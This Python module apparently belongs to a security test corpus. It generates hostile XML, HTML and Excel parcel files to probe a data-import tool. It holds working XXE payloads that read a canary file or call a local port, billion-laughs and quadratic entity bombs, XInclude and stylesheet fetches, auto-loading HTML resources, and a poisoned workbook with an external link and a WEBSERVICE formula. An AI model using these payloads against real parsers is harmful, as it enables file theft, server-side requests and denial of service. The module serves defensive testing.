"""XML, HTML and workbooks that reach for files and addresses, or swell."""

from __future__ import annotations

import io
import re
import zipfile

import xlsxwriter
from attacks.corpus.attack import HEADER, Place, attack, rows

_LAUGHS = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def _records(cell: str = "") -> str:
    return "".join(
        "<parcel>" + "".join(f"<{n}>{c}</{n}>" for n, c in zip(HEADER, row, strict=True)) + f"<x>{cell}</x></parcel>"
        for row in rows()
    )


def _xml(place: Place, doctype: str, cell: str = "") -> None:
    place.write("parcels.xml", f'<?xml version="1.0"?>{doctype}<all>{_records(cell)}</all>')


@attack(learnable=False)
def external_entity_of_a_file(place: Place) -> None:
    _xml(place, f'<!DOCTYPE all [<!ENTITY x SYSTEM "file://{place.outside}/canary.csv">]>', "&x;")


@attack(learnable=False)
def external_entity_of_an_address(place: Place) -> None:
    _xml(place, f'<!DOCTYPE all [<!ENTITY x SYSTEM "http://127.0.0.1:{place.port}/x">]>', "&x;")


@attack(learnable=False)
def parameter_entity(place: Place) -> None:
    _xml(place, f'<!DOCTYPE all [<!ENTITY % x SYSTEM "http://127.0.0.1:{place.port}/x.dtd"> %x;]>')


@attack()
def external_dtd(place: Place) -> None:
    _xml(place, f'<!DOCTYPE all SYSTEM "http://127.0.0.1:{place.port}/x.dtd">')


@attack(learnable=False)
def billion_laughs(place: Place) -> None:
    _xml(place, f"<!DOCTYPE all [{_LAUGHS}]>", "&l9;")


@attack(learnable=False)
def quadratic_laughs(place: Place) -> None:
    _xml(place, f'<!DOCTYPE all [<!ENTITY x "{"ha" * 50_000}">]>', "&x;" * 300)


@attack()
def inclusion_and_style(place: Place) -> None:
    address = f"http://127.0.0.1:{place.port}"
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{place.outside}/canary.csv"/>'
    style = f'<?xml-stylesheet type="text/xsl" href="{address}/x.xsl"?>'
    schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{address}/x.xsd"'
    place.write("parcels.xml", f'<?xml version="1.0"?>{style}<all {schema}>{_records(include)}</all>')


@attack()
def a_page_that_loads(place: Place) -> None:
    address = f"http://127.0.0.1:{place.port}"
    head = "".join(f"<th>{name}</th>" for name in HEADER)
    body = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in rows())
    loading = f'<img src="{address}/x"><script src="{address}/x.js"></script><iframe src="{address}"></iframe>'
    page = f'<html><head><base href="{address}"><link rel=stylesheet href="{address}/x.css"></head><body>{loading}'
    place.write("parcels.html", f"{page}<table><tr>{head}</tr>{body}</table></body></html>")


@attack(learnable=False)
def xml_inside_a_workbook(place: Place) -> None:
    """XXE and laughs in the parts of an .xlsx file."""
    declared = f'<!DOCTYPE x [<!ENTITY x SYSTEM "http://127.0.0.1:{place.port}/x">{_LAUGHS}]>'

    def poison(name: str, content: bytes) -> bytes:
        if not name.endswith(".xml"):
            return content
        text = re.sub(r"(<\?xml[^>]*\?>)", lambda found: found.group() + declared, content.decode(), count=1)
        return text.replace("<t>depot</t>", "<t>&x;&l9;</t>").encode()

    place.write("parcels.xlsx", _workbook(poison))


@attack()
def a_workbook_that_links_elsewhere(place: Place) -> None:
    def link(name: str, content: bytes) -> bytes:
        address = f'Target="http://127.0.0.1:{place.port}/x" TargetMode="External"'
        return content.replace(b'Target="theme/theme1.xml"', address.encode()) if name.endswith(".rels") else content

    place.write("parcels.xlsx", _workbook(link))


def _workbook(change) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet("parcels")
    for at, row in enumerate([HEADER, *rows()]):
        sheet.write_row(at, 0, row)
    sheet.write_formula(1, 6, '=WEBSERVICE("http://127.0.0.1:9/")', None, "x")
    book.close()
    changed = io.BytesIO()
    with zipfile.ZipFile(out) as before, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            after.writestr(name, change(name, before.read(name)))
    return changed.getvalue()
